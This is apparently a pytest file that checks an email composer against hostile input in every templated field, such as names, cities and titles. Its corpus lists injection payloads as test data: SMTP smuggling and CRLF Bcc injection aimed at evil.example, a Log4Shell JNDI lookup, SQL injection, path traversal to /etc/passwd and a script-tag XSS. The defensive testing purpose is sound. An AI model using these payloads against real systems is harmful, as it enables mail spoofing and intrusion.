"""Hostile words in every place that people, imports and other systems fill: each mail stays one well-formed mail."""

import re
from dataclasses import replace
from email import message_from_bytes, policy

import pytest

from rapport.mail.compose import compose
from rapport.mail.draft import Draft
from rapport.mail.sink import Envelope, start_sink
from tests.unit.mail.builders import CANDIDATE, CONTEXT, a_draft, a_source
from tests.unit.mail.keys import a_key
from tests.unit.mail.relays import a_mailer
from tests.unit.mail.test_dkim import verifies
from tests.unit.mail.test_render import HOSTILE

CORPUS = [
    *HOSTILE,
    "a\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<y@evil.example>\r\nDATA\r\nSubject: two\r\n\r\ntwo",
    "a\n.\nQUIT\n",
    "a\rBcc: x@evil.example",
    "a\x0bBcc: x@evil.example",
    "a\u2028Bcc: x@evil.example\u2029",
    "a\x85Bcc: x@evil.example",
    "=?utf-8?q?a=0D=0ABcc:_x@evil.example?=",
    "=?utf-8?b?YQ0KQmNjOiB4QGV2aWwuZXhhbXBsZQ==?=",
    '"<x@evil.example>, "Ada',
    "Ada, Eve <eve@evil.example>; Bob",
    "Ada (comment \\",
    "Ada\\",
    "'); DROP TABLE sends; --",
    "\u202egnp.exe\u202c",
    "--=_boundary--",
    "--",
    "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "From nobody Mon Mar  2 09:00:00 2026",
    ".",
    "..",
    "\ufeff\u200b",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 300,
    "x" * 5_000,
    "%0d%0aBcc:%20x@evil.example",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
]
BODY = (
    "Hi {{ candidate.first_name or 'there' }}, {{ candidate.city or 'there' }}, {{ candidate.custom.motto or 'x' }},\n"
    "{{ candidate.skills | join(', ') }}, {{ event.title or 'x' }}, {{ organization.name }}, {{ sender.name }}\n\n"
    "{% for role in roles %}- {{ role.title }}\n{% endfor %}\n"
    " [look](https://acme.example/{{ candidate.city or 'x' }}?q={{ candidate.custom.motto or 'x' }})\n"
)
KEY = a_key()


@pytest.mark.parametrize("words", CORPUS)
async def test_one_mail_leaves_whatever_people_are_called(words: str) -> None:
    """One sender, one recipient, our headers, two parts, a valid signature; and one mail arrives, to the byte."""
    raw, arrived = await _sent(words)
    plain, _ = await _sent("Ada")
    mail, expected = (message_from_bytes(one, policy=policy.default) for one in (raw, plain))

    assert [name for name, _ in expected.raw_items()] == [name for name, _ in mail.raw_items()]
    assert ["ada@candidate.test"] == [one.addr_spec for one in mail["To"].addresses]
    assert ["anna@mail.acme.example"] == [one.addr_spec for one in mail["From"].addresses]
    assert ["text/plain", "text/html"] == [part.get_content_type() for part in mail.iter_parts()]
    assert [] == [part.defects for part in mail.walk() if part.defects]
    assert re.search(rb"(?<!\r)\n|\r(?!\n)|\0", raw) is None
    assert max(map(len, raw.split(b"\r\n"))) <= 998
    assert "<script" not in compose(_draft(words)).html
    assert verifies(raw, KEY)
    assert [(raw, ("ada@candidate.test",))] == [(one.raw, one.recipients) for one in arrived]


def _draft(words: str) -> Draft:
    """A mail to somebody of whom everything is called like this."""
    person = CANDIDATE | {"first_name": words, "city": words, "skills": [words, "go"], "custom": {"motto": words}}
    context = CONTEXT | {
        "candidate": person,
        "sender": {"name": words},
        "organization": {"name": words},
        "event": {"title": words},
        "roles": [{"title": words, "url": "https://acme.example/jobs/1"}],
    }
    draft = a_draft(
        source=a_source(BODY, "{{ candidate.first_name or 'x' }}, {{ event.title or 'x' }}"),
        context=context,
        to_name=words,
        sender_name=words,
        reason_line=words,
        dkim=KEY,
    )
    return replace(draft, organization=replace(draft.organization, name=words, postal_address=words))


async def _sent(words: str) -> tuple[bytes, list[Envelope]]:
    """The mail, and what came to a mail server."""
    mail = compose(_draft(words))
    got: list[Envelope] = []

    async def keep(envelope: Envelope) -> None:
        got.append(envelope)

    sink = await start_sink("127.0.0.1", 0, keep)
    mailer = a_mailer(sink.port)
    await mailer.deliver(mail.raw, sender=mail.envelope_sender, recipient=mail.recipient)
    await mailer.close()
    await sink.close()
    return mail.raw, got
